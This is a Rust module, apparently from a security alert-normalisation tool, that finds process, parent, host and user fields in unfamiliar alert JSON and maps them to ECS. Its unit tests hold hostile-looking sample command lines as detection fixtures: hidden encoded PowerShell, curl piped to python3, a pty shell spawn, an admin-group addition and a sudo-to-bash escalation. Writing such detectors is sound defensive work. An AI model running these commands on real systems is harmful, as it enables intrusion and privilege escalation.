//! The last resort for a shape no adapter knows (a SOAR artifact, a webhook, a pager event, a
//! SIEM's custom incident fields): the process is looked for by the field names every product
//! spells its own way (`commandline`, `CommandLine`, `process_command_line`, `cmd` …), at any
//! depth up to six, and mapped onto ECS. Only the first value of each kind is taken, and only
//! when the document names a command line or an executable; the original stays beside it.

use super::{basename_of, program, push_unique, s, set_path};
use serde_json::{Map, Value as Json, json};

/// Field names (lower case, without `_`, `-`, `.` or spaces) for each ECS field, most telling first.
const COMMAND_LINE: &[&str] = &[
    "processcommandline",
    "commandline",
    "arguments",
    "processcmdline",
    "cmdline",
    "processcmd",
    "command",
    "cmd",
    "process",
    "argv",
    "args",
    "samplecmdlines",
    "samplecommandlines",
    // A rule's context naming one of the commands it counted (Panther's `alertContext`).
    "examplecmdline",
    "examplecommandline",
    "samplecmdline",
    "samplecommandline",
    // A PowerShell engine event's host: the command line of the process PowerShell runs in.
    "hostapplication",
    // What a rule's context says was started (`child_cmdline` beside the `sudo_cmdline` that
    // started it).
    "childcmdline",
    "childcommandline",
    "childprocesscommandline",
];
const EXECUTABLE: &[&str] = &[
    "processpath",
    "processfilepath",
    "fullpath",
    "imagefullpath",
    "processexecutable",
    "executable",
    "image",
    "processimagepath",
    "imagepath",
    "newprocessname",
    "baseimage",
    "exe",
    "childpath",
    "childprocesspath",
    "childprocess",
];
const NAME: &[&str] = &["processname", "imagefilename", "filename", "process"];
const PARENT_COMMAND_LINE: &[&str] = &[
    "parentcommandline",
    "parentarguments",
    "parentprocesscommandline",
    "parentcmdline",
    "parentprocesscmdline",
    "sudocmdline",
    "sudocommand",
    "initiatingprocesscommandline",
    "parentargs",
    "parentargv",
];
const PARENT_EXECUTABLE: &[&str] = &[
    "parentimage",
    "parentprocessfilepath",
    "parentimagepath",
    "parentimagefullpath",
    "parentfullpath",
    "parentprocesspath",
    "parentexecutable",
    "parentpath",
    "parentbaseimage",
    "parentprocess",
    "parentprocessname",
    "parentname",
    "initiatingprocessfilename",
    "component",
];
const HOST: &[&str] = &[
    "hostname",
    "hostidentifier",
    "devicehostname",
    "host",
    "computername",
    "computer",
    "devicename",
    "machine",
    "alerthost",
    "destinationhostname",
    // Sumo Logic's metadata: the host the log came from.
    "sourcehost",
    "dest",
    "endpoint",
    "source",
];
const WORKING_DIRECTORY: &[&str] = &[
    "workingdirectory",
    "processcurrentdirectory",
    "currentdirectory",
    "cwd",
];
const RESPONSIBLE: &[&str] = &["responsiblepath", "responsibleprocesspath"];
const USER: &[&str] = &[
    "username",
    "actorusername",
    "user",
    "accountname",
    "destinationusername",
    "account",
    "owner",
    // The account a command ran as through sudo (`run_as`), when nothing else names one.
    "runas",
    // Sumo Logic CSE's normalised records (after the raw fields: a sudo record's `USER` is
    // the account the command ran as, its `user_username` the one who asked).
    "userusername",
];

/// A field name as products spell it, lower case without `_`, `-`, `.` or spaces.
pub(super) fn key(k: &str) -> String {
    k.chars()
        .filter(|c| !matches!(c, '_' | '-' | '.' | ' '))
        .flat_map(char::to_lowercase)
        .collect()
}

/// Containers that describe the parent process (`actor`, `parent`, `initiatingProcess` …).
const PARENT_CONTAINERS: &[&str] = &[
    "parent",
    "parentprocess",
    "parentprocessinfo",
    "actor",
    "initiatingprocess",
];

/// Containers that describe the machine (`device_info: {name}`): their `name` is the host's.
const HOST_CONTAINERS: &[&str] = &[
    "deviceinfo",
    "device",
    "host",
    "hostinfo",
    "endpoint",
    "asset",
    "machine",
    "computer",
];

/// Containers that describe the process itself (`process: {path}`): their `path` is its
/// program's.
const PROCESS_CONTAINERS: &[&str] = &["process", "targetprocess", "processinfo"];

/// Every string value under the document with its normalised key, breadth first, to depth 6;
/// a value inside a parent container gets its key prefixed with `parent`, the `name` of a
/// machine's container is read as `hostname`.
fn strings(obj: &Map<String, Json>) -> Vec<(String, &str)> {
    let mut out = Vec::new();
    let mut level: Vec<(&Map<String, Json>, bool, bool, bool)> = vec![(obj, false, false, false)];
    for _ in 0..6 {
        let mut next = Vec::new();
        for (m, in_parent, in_host, in_process) in level {
            for (k, v) in m {
                let nk = key(k);
                let parent = in_parent || PARENT_CONTAINERS.contains(&nk.as_str());
                let host = !parent && HOST_CONTAINERS.contains(&nk.as_str());
                let process = !parent && PROCESS_CONTAINERS.contains(&nk.as_str());
                match v {
                    Json::String(t) if !t.trim().is_empty() => {
                        let name = if in_parent && !nk.starts_with("parent") {
                            format!("parent{nk}")
                        } else if in_host && nk == "name" {
                            "hostname".to_owned()
                        } else if in_process && nk == "path" {
                            "processpath".to_owned()
                        } else {
                            nk
                        };
                        out.push((name, t.as_str()));
                    }
                    Json::Object(o) => next.push((o, parent, host, process)),
                    // A list of samples (`sample_cmdlines`): its first, under the list's key.
                    Json::Array(a) if nk.starts_with("sample") && a.iter().any(Json::is_string) => {
                        if let Some(t) = a.iter().find_map(Json::as_str) {
                            out.push((nk, t));
                        }
                    }
                    Json::Array(a) => next.extend(
                        a.iter()
                            .filter_map(Json::as_object)
                            .map(|o| (o, parent, host, process)),
                    ),
                    _ => {}
                }
            }
        }
        level = next;
    }
    out
}

fn first<'a>(
    all: &[(String, &'a str)],
    names: &[&str],
    ok: impl Fn(&str) -> bool,
) -> Option<&'a str> {
    names.iter().find_map(|n| {
        all.iter()
            .find(|(k, v)| k == n && ok(v))
            .map(|(_, v)| v.trim())
    })
}

/// Keys of a list of the processes in a chain (`process_tree: [{pid, exe, cmdline}, …]`).
const PROCESS_LISTS: &[&str] = &[
    "processtree",
    "processchain",
    "processlineage",
    "lineage",
    "ancestry",
    "processes",
];

/// A chain of processes given as one list, newest first: the one no other names as its parent
/// (`ppid`), else by order — a list whose process ids rise runs from the oldest, one whose ids
/// fall from the newest, and without ids a tree is read as written, root first.
fn process_list(obj: &Map<String, Json>) -> Option<Vec<&Map<String, Json>>> {
    let mut level = vec![obj];
    for _ in 0..4 {
        let mut next = Vec::new();
        for m in level {
            for (k, v) in m {
                match v {
                    Json::Array(a) if PROCESS_LISTS.contains(&key(k).as_str()) => {
                        let procs: Vec<&Map<String, Json>> = a
                            .iter()
                            .filter_map(Json::as_object)
                            .filter(|p| {
                                p.iter().any(|(k, v)| {
                                    let k = key(k);
                                    v.is_string()
                                        && (COMMAND_LINE.contains(&k.as_str())
                                            || EXECUTABLE.contains(&k.as_str()))
                                })
                            })
                            .collect();
                        if procs.len() >= 2 {
                            return Some(newest_first(procs));
                        }
                    }
                    Json::Object(o) => next.push(o),
                    _ => {}
                }
            }
        }
        level = next;
    }
    None
}

/// A number a record gives under one of these names (normalised), as a number or as text.
fn num(p: &Map<String, Json>, names: &[&str]) -> Option<i64> {
    p.iter()
        .find(|(k, _)| names.contains(&key(k).as_str()))
        .and_then(|(_, v)| v.as_i64().or_else(|| v.as_str()?.parse().ok()))
}

fn newest_first(mut procs: Vec<&Map<String, Json>>) -> Vec<&Map<String, Json>> {
    let pid = |p: &Map<String, Json>| num(p, &["pid", "processid"]);
    let ppid = |p: &Map<String, Json>| num(p, &["ppid", "parentpid", "parentprocessid"]);
    // Linked by parent ids: follow them up from the leaf.
    if procs.iter().all(|p| pid(p).is_some() && ppid(p).is_some()) {
        let leaf = procs
            .iter()
            .position(|p| !procs.iter().any(|q| ppid(q) == pid(p)));
        if let Some(i) = leaf {
            let mut chain = vec![procs[i]];
            while let Some(up) = procs
                .iter()
                .find(|q| pid(q) == ppid(chain[chain.len() - 1]) && !chain.contains(q))
            {
                chain.push(up);
            }
            return chain;
        }
    }
    let pids: Vec<i64> = procs.iter().filter_map(|p| pid(p)).collect();
    let falling = pids.len() == procs.len() && pids.windows(2).all(|w| w[0] > w[1]);
    if !falling {
        procs.reverse();
    }
    procs
}

/// Argument-vector names whose list of strings is a command line.
const ARGV: &[&str] = &[
    "argv",
    "parentargv",
    "cmdlineargs",
    "commandlineargs",
    "processargv",
];

/// `obj` with every argument vector (a list of strings under an `ARGV` name, to depth 6)
/// joined as one command line; `None` when it has none.
fn argv_joined(obj: &Map<String, Json>, depth: usize) -> Option<Map<String, Json>> {
    if depth > 6 {
        return None;
    }
    let mut out: Option<Map<String, Json>> = None;
    for (k, v) in obj {
        let new = match v {
            Json::Array(a)
                if ARGV.contains(&key(k).as_str())
                    && !a.is_empty()
                    && a.iter().all(Json::is_string) =>
            {
                let argv: Vec<&str> = a.iter().filter_map(Json::as_str).collect();
                Some(Json::String(super::edr::shell_join(&argv)))
            }
            Json::Object(o) => argv_joined(o, depth + 1).map(Json::Object),
            _ => None,
        };
        if let Some(new) = new {
            out.get_or_insert_with(|| obj.clone())
                .insert(k.clone(), new);
        }
    }
    out
}

/// The process an unknown shape names, as ECS fields; `None` when it names no command line or
/// executable.
pub(super) fn fields(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    // An argument vector given as a list (`argv: ["/bin/sh", "-c", "…"]`, `parent_argv`):
    // read as the command line it is.
    if let Some(joined) = argv_joined(obj, 0) {
        return fields(&joined);
    }
    // A bare `args` list is a command line only when nothing else names one (`{path, args}`):
    // elsewhere it may be the arguments without the program, or encoded.
    let mut e = match fields_by_name(obj) {
        Some(e) => e,
        None => {
            let argv: Vec<&str> = obj
                .get("args")?
                .as_array()?
                .iter()
                .map(Json::as_str)
                .collect::<Option<_>>()?;
            let mut joined = obj.clone();
            joined.insert("args".into(), s(&super::edr::shell_join(&argv)));
            fields_by_name(&joined)?
        }
    };
    // A chain given as a list says which process is the newest and who started it: it
    // replaces what the first names found said of the process and its parents — when what
    // they found is one of the chain's (a list of ancestors beside the event is not the event).
    let found = |k: &str| {
        e.get("process")
            .and_then(|p| p.get(k))
            .and_then(Json::as_str)
            .map(str::to_owned)
    };
    let (cmd, exe) = (found("command_line"), found("executable"));
    if let Some(chain) = process_list(obj).filter(|chain| {
        chain.iter().any(|p| {
            p.values()
                .filter_map(Json::as_str)
                .any(|v| Some(v.trim()) == cmd.as_deref() || Some(v.trim()) == exe.as_deref())
        })
    }) {
        let mut acc: Option<Map<String, Json>> = None;
        for p in chain.iter().take(3).rev() {
            let Some(Json::Object(mut one)) =
                fields_by_name(p).and_then(|mut f| f.remove("process"))
            else {
                continue;
            };
            one.remove("parent");
            if let Some(uid) = num(p, &["uid"]) {
                set_path(&mut one, "user.id", s(&uid.to_string()));
            }
            if let Some(parent) = acc.take() {
                one.insert("parent".into(), Json::Object(parent));
            }
            acc = Some(one);
        }
        if let Some(newest) = acc {
            if let Some(uid) = newest.get("user").and_then(|u| u.get("id")).cloned()
                && e.get("user").and_then(|u| u.get("id")).is_none()
            {
                set_path(&mut e, "user.id", uid);
            }
            e.insert("process".into(), Json::Object(newest));
            if let Some(os) = guess_os(&e) {
                set_path(&mut e, "host.os.type", s(os));
            }
        }
    }
    Some(e)
}

/// The operating system a process's paths and names tell, if they do.
fn guess_os(e: &Map<String, Json>) -> Option<&'static str> {
    let p = e.get("process");
    let at = |path: &[&str]| {
        let mut v = p;
        for k in path {
            v = v.and_then(|x| x.get(*k));
        }
        v.and_then(Json::as_str).unwrap_or_default()
    };
    let names = format!(
        "{} {} {} {}",
        at(&["executable"]),
        at(&["command_line"]),
        at(&["name"]),
        at(&["parent", "name"])
    );
    match names.as_str() {
        c if c.contains(":\\") || c.to_ascii_lowercase().contains(".exe") => Some("windows"),
        c if c.contains("/Applications/")
            || c.contains("/Users/")
            || c.contains("/Library/")
            || c.contains("/System/")
            || c.contains("osascript")
            || c.ends_with(" launchd") =>
        {
            Some("macos")
        }
        c if c.starts_with('/') || c.contains("/bin/") => Some("linux"),
        _ => None,
    }
}

fn fields_by_name(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let all = strings(obj);
    let looks_like_command = |v: &str| v.contains(' ') || v.contains(['\\', '/']);
    let looks_like_path = |v: &str| v.contains(['\\', '/']) && !v.contains("://");
    // Else a field named for a command line with a prefix of the query's own (`dl_cmdline`
    // beside `shell_cmdline` in a correlation search's row).
    let cmd = first(&all, COMMAND_LINE, looks_like_command).or_else(|| {
        all.iter()
            .find(|(k, v)| {
                // A short prefix only: a vendor's long names (`actionprocessimagecommandline`)
                // belong to its own reader, which knows the rest of the record.
                let prefix = k
                    .strip_suffix("cmdline")
                    .or_else(|| k.strip_suffix("commandline"));
                prefix.is_some_and(|p| p.len() <= 8 && !p.starts_with("parent"))
                    && looks_like_command(v)
            })
            .map(|(_, v)| v.trim())
    });
    // A bare `path` is the program's only when it names the command line's program
    // (osquery's columns as a detection's context carries them); otherwise it may be any
    // file's, another process's or a URL's.
    let exe = first(&all, EXECUTABLE, looks_like_path).or_else(|| {
        let prog = basename_of(program(cmd?));
        first(&all, &["path"], |v| {
            (v.starts_with(['/', '\\']) || v.get(1..3) == Some(":\\"))
                && basename_of(v).eq_ignore_ascii_case(prog)
        })
    });
    if cmd.is_none() && exe.is_none() {
        return None;
    }
    let mut e = Map::new();
    if let Some(c) = cmd {
        set_path(&mut e, "process.command_line", s(c));
    }
    match exe {
        Some(x) => {
            set_path(&mut e, "process.executable", s(x));
            set_path(&mut e, "process.name", s(basename_of(x)));
        }
        None => {
            let named = first(&all, NAME, |v| !v.contains(' ') || v.ends_with(".exe"));
            if let Some(n) = named.or_else(|| cmd.map(program)) {
                set_path(&mut e, "process.name", s(basename_of(n)));
            }
        }
    }
    let parent_cmd = first(&all, PARENT_COMMAND_LINE, looks_like_command);
    if let Some(c) = parent_cmd {
        set_path(&mut e, "process.parent.command_line", s(c));
    }
    if let Some(p) =
        first(&all, PARENT_EXECUTABLE, |v| !v.is_empty()).or_else(|| parent_cmd.map(program))
    {
        // A parent given as a whole command line: its program is the first word — up to the
        // first `.exe` (or other program extension) followed by arguments, since an unquoted
        // Windows path may hold spaces (`C:\Program Files\…`) — and the line is its command line.
        let lower = p.to_ascii_lowercase();
        let ends_program = [".exe ", ".com ", ".bat ", ".cmd ", ".scr "]
            .iter()
            .filter_map(|x| lower.find(x).map(|i| i + x.len() - 1))
            .min();
        let program = if let Some(end) = ends_program.filter(|_| !p.starts_with('"')) {
            if parent_cmd.is_none() {
                set_path(&mut e, "process.parent.command_line", s(p));
            }
            &p[..end]
        } else if p.contains(['\\', '/']) && p.contains(' ') && !p.starts_with('"') {
            p
        } else {
            p.trim_matches('"')
        };
        if looks_like_path(program) {
            set_path(&mut e, "process.parent.executable", s(program));
        }
        set_path(&mut e, "process.parent.name", s(basename_of(program)));
    }
    if let Some(d) = first(&all, WORKING_DIRECTORY, looks_like_path) {
        set_path(&mut e, "process.working_directory", s(d));
    }
    // macOS's responsible process (the app or agent a launch is attributed to).
    if let Some(r) = first(&all, RESPONSIBLE, looks_like_path) {
        set_path(&mut e, "process.parent.parent.executable", s(r));
        set_path(&mut e, "process.parent.parent.name", s(basename_of(r)));
    }
    // A grandparent the shipper or a rule's context names (`_grandparent_cmdline`,
    // `GrandparentImage`), when no responsible process stands in its place.
    if e.get("process")
        .and_then(|p| p.get("parent"))
        .and_then(|p| p.get("parent"))
        .is_none()
    {
        let gcmd = first(
            &all,
            &[
                "grandparentcommandline",
                "grandparentcmdline",
                "grandparentprocesscommandline",
            ],
            looks_like_command,
        );
        if let Some(c) = gcmd {
            set_path(&mut e, "process.parent.parent.command_line", s(c));
        }
        let gexe = first(
            &all,
            &[
                "grandparentimage",
                "grandparentexe",
                "grandparentexecutable",
                "grandparentpath",
                "grandparentprocesspath",
            ],
            looks_like_path,
        )
        .or_else(|| gcmd.map(program));
        if let Some(x) = gexe {
            if looks_like_path(x) {
                set_path(&mut e, "process.parent.parent.executable", s(x));
            }
            set_path(&mut e, "process.parent.parent.name", s(basename_of(x)));
        }
    }
    if let Some(h) = first(&all, HOST, |v| !v.contains(' ') && !v.contains("://")) {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(u) = first(&all, USER, |v| !v.contains(' ')) {
        match u.split_once('\\') {
            Some((d, n)) => {
                set_path(&mut e, "user.domain", s(d));
                set_path(&mut e, "user.name", s(n));
            }
            None => set_path(&mut e, "user.name", s(u)),
        }
    }
    // A numeric account id beside the record's fields (`uid: 0`).
    if let Some(uid) = num(obj, &["uid", "userid"]) {
        set_path(&mut e, "user.id", s(&uid.to_string()));
    }
    // The account a command ran as through sudo or runas, beside the one who asked.
    if let Some(r) = first(&all, &["runas", "runasuser"], |v| !v.contains(' '))
        && e.get("user")
            .and_then(|u| u.get("name"))
            .and_then(Json::as_str)
            != Some(r)
    {
        set_path(&mut e, "user.effective.name", s(r));
    }
    // Technique ids wherever they are written (`class`, `tags`, `mitre` …).
    let mut techniques = Vec::new();
    for (_, v) in &all {
        for word in v.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
            let w = word.to_ascii_uppercase();
            if crate::load::is_technique(&w) {
                push_unique(&mut techniques, &w);
            }
        }
    }
    if !techniques.is_empty() {
        set_path(&mut e, "threat.technique.id", json!(techniques));
    }
    if let Some(os) = guess_os(&e) {
        set_path(&mut e, "host.os.type", s(os));
    }
    set_path(&mut e, "event.category", json!(["process"]));
    set_path(&mut e, "event.provider", s(UNRECOGNISED));
    Some(e)
}

/// The `event.provider` of an alert whose fields were found by name, no reader knowing its shape.
pub(crate) const UNRECOGNISED: &str = "unrecognised shape (fields found by name)";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_the_process_in_unknown_shapes() {
        // An XSOAR incident's custom fields.
        let x = json!({"id": "48213", "CustomFields": {"hostname": "FS01.corp", "username": "TAIL\\da-jw",
            "parentprocessname": "PSEXESVC.exe", "processname": "powershell.exe", "commandline": "powershell -nop -w hidden -c iex x"}});
        let e = fields(x.as_object().unwrap()).unwrap();
        assert_eq!(
            e["process"]["command_line"],
            "powershell -nop -w hidden -c iex x"
        );
        assert_eq!(e["process"]["name"], "powershell.exe");
        assert_eq!(e["process"]["parent"]["name"], "PSEXESVC.exe");
        assert_eq!(e["host"]["name"], "FS01.corp");
        assert_eq!(e["user"]["name"], "da-jw");
        assert_eq!(e["host"]["os"]["type"], "windows");
        // A pager event: details nested, the technique in `class`.
        let p = json!({"payload": {"source": "MBP-7", "class": "T1059.004", "custom_details": {
            "parent_process": "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word",
            "process_command_line": "sh -c curl -s https://x/y | python3", "user": "tg"}}});
        let e = fields(p.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["parent"]["name"], "Microsoft Word");
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.004"]));
        assert_eq!(e["host"]["name"], "MBP-7");
        // A parent described in its own container (`actor`), a program named only by its
        // command line.
        let q = json!({"process": {"processName": "powershell.exe", "arguments": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -nop -enc AA=="},
            "actor": {"processName": "WINWORD.EXE", "arguments": "\"C:\\Program Files\\Microsoft Office\\WINWORD.EXE\" /n x.docm"}});
        let e = fields(q.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["name"], "powershell.exe");
        assert_eq!(e["process"]["parent"]["name"], "WINWORD.EXE");
        assert_eq!(
            e["process"]["parent"]["command_line"],
            "\"C:\\Program Files\\Microsoft Office\\WINWORD.EXE\" /n x.docm"
        );
        let r = json!({"allRecords": [{"commandLine": "dseditgroup -o edit -a x admin", "parentCommandLine": "/bin/bash -c dscl . -create /Users/x"}]});
        let e = fields(r.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["name"], "dseditgroup");
        assert_eq!(e["process"]["parent"]["executable"], "/bin/bash");
        // A detection naming the process's image path and owner, the machine in its own
        // container (`device_info: {name}`) and launchd as the parent.
        let k = json!({"device_info": {"id": "e5a7", "name": "MAC-7"},
            "parent_process": {"name": "launchd", "image_path": "/sbin/launchd", "owner": "root"},
            "target_process": {"name": "python3", "image_path": "/usr/bin/python3", "owner": "root",
                "command_line": "/usr/bin/python3 -c \"import pty;pty.spawn('/bin/zsh')\""}});
        let e = fields(k.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["executable"], "/usr/bin/python3");
        assert_eq!(e["process"]["parent"]["executable"], "/sbin/launchd");
        assert_eq!(e["host"]["name"], "MAC-7");
        assert_eq!(e["user"]["name"], "root");
        assert_eq!(e["host"]["os"]["type"], "macos");
        // A bare `path` is taken for the program only when it names the command's program.
        let o = json!({"alertContext": {"path": "/var/tmp/.font-unix/httpd", "cmdline": "/usr/local/apache/bin/httpd -k start"}});
        let e = fields(o.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["executable"], "/var/tmp/.font-unix/httpd");
        let o = json!({"tty": {"path": "/Applications/iTerm.app/Contents/MacOS/iTerm2"}, "cmdline": "curl -fsSL https://x/i.sh"});
        let e = fields(o.as_object().unwrap()).unwrap();
        assert!(e["process"].get("executable").is_none());
        // A chain given as one list, root first: the newest is the process, the two before
        // it its parent and grandparent, its uid the account's.
        let t = json!({"alertContext": {"host": "hist-1", "sudo_command": "/usr/bin/vim /etc/x.conf", "process_tree": [
            {"pid": 10, "exe": "/usr/sbin/sshd", "cmdline": "sshd: m [priv]", "uid": 0},
            {"pid": 12, "exe": "/usr/bin/sudo", "cmdline": "sudo /usr/bin/vim /etc/x.conf", "uid": 0},
            {"pid": 13, "exe": "/usr/bin/vim", "cmdline": "/usr/bin/vim /etc/x.conf", "uid": 0},
            {"pid": 20, "exe": "/usr/bin/bash", "cmdline": "/bin/bash -p", "uid": 0}]}});
        let e = fields(t.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["command_line"], "/bin/bash -p");
        assert_eq!(e["process"]["parent"]["executable"], "/usr/bin/vim");
        assert_eq!(
            e["process"]["parent"]["parent"]["executable"],
            "/usr/bin/sudo"
        );
        assert!(e["process"]["parent"]["parent"].get("parent").is_none());
        assert_eq!(e["user"]["id"], "0");
        assert_eq!(e["host"]["os"]["type"], "linux");
        // Newest first (ids fall), and linked by parent ids in any order.
        let n = json!({"processes": [{"pid": 9, "cmdline": "powershell -enc AA"}, {"pid": 4, "cmdline": "cmd /c x"}]});
        let e = fields(n.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["command_line"], "powershell -enc AA");
        assert_eq!(e["process"]["parent"]["name"], "cmd");
        let l = json!({"lineage": [{"pid": 4, "ppid": 1, "exe": "/bin/bash"}, {"pid": 30, "ppid": 7, "exe": "/usr/bin/curl"},
            {"pid": 7, "ppid": 4, "exe": "/usr/bin/python3"}]});
        let e = fields(l.as_object().unwrap()).unwrap();
        assert_eq!(e["process"]["executable"], "/usr/bin/curl");
        assert_eq!(e["process"]["parent"]["executable"], "/usr/bin/python3");
        assert_eq!(e["process"]["parent"]["parent"]["executable"], "/bin/bash");
        // No command line and no program path: nothing to judge.
        assert!(fields(json!({"title": "x", "host": "h"}).as_object().unwrap()).is_none());
    }
}
